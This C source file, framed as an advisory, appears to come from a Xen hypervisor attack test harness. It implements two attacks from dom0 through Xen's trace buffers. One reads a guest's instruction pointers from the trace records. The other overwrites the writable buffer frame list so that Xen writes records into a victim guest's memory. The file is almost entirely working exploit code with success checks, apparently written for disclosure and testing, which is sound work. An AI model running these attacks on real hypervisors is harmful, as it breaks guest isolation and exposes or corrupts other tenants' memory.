/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: Xen's trace buffers
 *
 * Claim:  dom0 sees where a guest executes; and by the buffers' list of frames
 *         it has Xen write where it likes, into a guest's memory, too.
 * Method: XEN_SYSCTL_tbuf_op, and a mapping of the trace buffers, which belong
 *         to DOMID_XEN.  A PVH dom0 gets a writable one: it puts a frame of
 *         the guest into the list, and Xen writes its records there.
 * Stock:  records of each exit with the guest's instruction pointer; the list
 *         is writable for a PVH dom0.
 */
#include <string.h>
#include <sys/mman.h>

#include "../attack.h"

#include <xen/trace.h>

#define PAGES 8 /* a processor's buffer */
#define CANDIDATES 16

/* The table of the buffers, SIZE bytes, as writable as it goes. */
static struct t_info *buffers(unsigned long *size, int protection)
{
    unsigned long mfn = 0, i;
    xen_pfn_t pfn[64];

    if ( xc_tbuf_enable(xch, PAGES, &mfn, size) || !*size ||
         *size / PAGE > 64 )
        return NULL;
    for ( i = 0; i < *size / PAGE; i++ )
        pfn[i] = mfn + i;
    return xenforeignmemory_map(fmem, DOMID_XEN, protection, *size / PAGE, pfn,
                                NULL);
}

/* Frames of processor CPU's buffer. */
static uint32_t *frames(struct t_info *info, unsigned int cpu)
{
    return info->mfn_offset[cpu] ? (uint32_t *)info + info->mfn_offset[cpu]
                                 : NULL;
}

/* Exits that happened where the victim's image is. */
static unsigned int exits_in(const uint32_t *word, size_t words)
{
    unsigned int n = 0;
    size_t i;

    for ( i = 0; i + 6 < words; i++ )
        if ( (word[i] & 0x0fffffff & ~TRC_64_FLAG) == TRC_HVM_SVM_EXIT &&
             word[i + 4] >= 0x100000 && word[i + 4] < 0x110000 )
            n++;
    return n;
}

static enum verdict trace_exits(struct victim *v)
{
    unsigned long size = 0;
    struct t_info *info = buffers(&size, PROT_READ);
    unsigned int cpu, i, exits = 0;

    if ( !info )
        return verdict(FAILURE, "no trace buffers, d%u", v->id);
    msleep(500);
    xc_tbuf_disable(xch);
    for ( cpu = 0; cpu < 2; cpu++ )
        for ( i = 0; frames(info, cpu) && i < info->tbuf_size; i++ )
        {
            void *page = map_page(DOMID_XEN, frames(info, cpu)[i], false);

            if ( page )
                exits += exits_in(page, PAGE / 4);
            unmap_page(page);
        }
    return verdict(exits ? SUCCESS : FAILURE,
                   "%u instruction pointers of the guest", exits);
}
ATTACK(trace_exits, .needs = SHARED);

unsigned long markers_traced(unsigned long *pages)
{
    unsigned long size = 0, found = 0;
    struct t_info *info = buffers(&size, PROT_READ);
    unsigned int cpu, i;

    msleep(500);
    xc_tbuf_disable(xch);
    for ( cpu = 0; info && cpu < 2; cpu++ )
        for ( i = 0; frames(info, cpu) && i < info->tbuf_size; i++ )
        {
            void *page = map_page(DOMID_XEN, frames(info, cpu)[i], false);

            if ( page )
            {
                found += markers_in(page, PAGE);
                ++*pages;
            }
            unmap_page(page);
        }
    return found;
}

static int give_frames(void *arg)
{
    unsigned long mfn[CANDIDATES];
    struct t_info *info = arg;
    unsigned int cpu, i, n = frames_of_lines(mfn, CANDIDATES);

    /* The first page has the buffer's own state. */
    for ( cpu = 0; n && cpu < 2; cpu++ )
        for ( i = 1; frames(info, cpu) && i < info->tbuf_size; i++ )
            frames(info, cpu)[i] = mfn[i % n];
    return 0;
}

static enum verdict trace_write(struct victim *v)
{
    unsigned long size = 0, mfn, unused;
    struct t_info *info = buffers(&size, PROT_READ | PROT_WRITE);
    static uint32_t old[64 * PAGE / 4];
    enum verdict result;

    if ( !info )
        return verdict(FAILURE, "no writable table of the trace buffers");
    xc_tbuf_disable(xch);
    memcpy(old, info, size);
    if ( attempt(give_frames, info) )
        return verdict(FAILURE, "the table is not writable");
    xc_tbuf_enable(xch, PAGES, &mfn, &unused);
    result = victim_complains(v, "BAD");
    xc_tbuf_disable(xch);
    memcpy(info, old, size);
    return result;
}
ATTACK(trace_write, .needs = SHARED, .frames = true, .pvh_only = true,
       .last = true);
